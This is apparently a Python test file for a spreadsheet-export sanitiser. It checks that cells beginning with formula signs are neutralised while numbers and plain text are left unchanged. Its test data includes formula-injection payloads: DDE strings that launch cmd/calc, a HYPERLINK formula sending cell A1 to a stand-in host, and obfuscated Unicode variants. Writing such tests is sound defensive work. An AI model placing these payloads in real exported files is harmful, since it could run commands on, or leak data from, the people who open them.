"""No cell is run by a spreadsheet, and what is a number stays one."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fact_desk.exports.formulas import as_written, is_dangerous, neutralised

RUN = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1;"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-SUM(A1:A9)",
    "+A1",
    "-A1",
    "@ada",
    "=",
    "+",
    "-",
    "@",
    "\tten",
    "\r=1",
    "\r",
    "\t-5",
    "\n=1",
    "\n\n +A1",
    " =1",
    "\u00a0=1",
    "\u202f@x",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\0=1",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠SUM(1)",
    "\u3000＝1",
    "﹦1",
    "⁼1",
    "−A1",
    "－5",
    "'=1",
    "''@x",
    "-5-3",
    "-5+3",
    "+44 20 7946",
    "-1,2,3",
    "-5*A1",
    "-2 m/s",
    "-5 (SUM)",
    "-5!A1",
    "-5:A1",
    "-5 % of =",
    "-1e5",
    "+4 " + "points " * 6,
    "-5..=1",
    "-٥",
]


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_would_run(cell: str) -> None:
    assert neutralised(cell) == "'" + cell
    assert as_written(neutralised(cell)) == cell


LEFT = [
    "",
    "-3.2%",
    "+4 points",
    "-5",
    "+12",
    "-0.5",
    "-.5",
    "+1,250,000",
    "-1.250,75",
    "-1 250 000",
    "-1\u202f250",
    "-3.2 %",
    "-3,2 %",
    "-£3bn",
    "-$1.5m",
    "+€40 million",
    "- 5 °C",
    "-12°C",
    "−3.2%",
    "+0.4 percentage points",
    "-15 per cent",
    " -5",
    "\u00a0+4 points",
    "-5..-3",
    "-5..",
    "'-5 degrees",
    "- £3bn",
    "–5",
    "—ten",
    "10 - 5",
    "a=b",
    "ada@example.org",
    "1+1",
    "“=”",
    '"=1+1"',
    "'tis",
    "ten\t=1",
    "ten\n=1",
    "...",
    "#1",
    "🛶",
    "\u0301",
    " ",
    "\n",
    "'",
]


@pytest.mark.parametrize("cell", LEFT)
def test_what_is_left_as_it_is(cell: str) -> None:
    assert neutralised(cell) == cell
    assert as_written(cell) == cell


signs = st.sampled_from(list("=+-@\t\r\n '＝＋－＠−\u00a0\u200b.,%5A("))


@given(st.text() | st.text(signs))
def test_what_was_written_can_be_told(cell: str) -> None:
    assert as_written(neutralised(cell)) == cell
    assert not is_dangerous(cell) or neutralised(cell)[0] == "'"


@given(st.text(signs, max_size=8) | st.text(max_size=8))
def test_only_numbers_begin_with_a_sign(cell: str) -> None:
    written = neutralised(cell)
    assert written[:1] not in tuple("=@\t\r＝＋－＠")
    if written[:1] in ("+", "-"):
        assert any(character.isdigit() for character in written)
        assert not set(written[1:]) & set('=@()|!:*/^&<>;"{}[]#\t\r\n')


@given(st.decimals(allow_nan=False, allow_infinity=False, places=3))
def test_every_decimal_stays_a_number(value: object) -> None:
    assert neutralised(format(value, "f")) == format(value, "f")
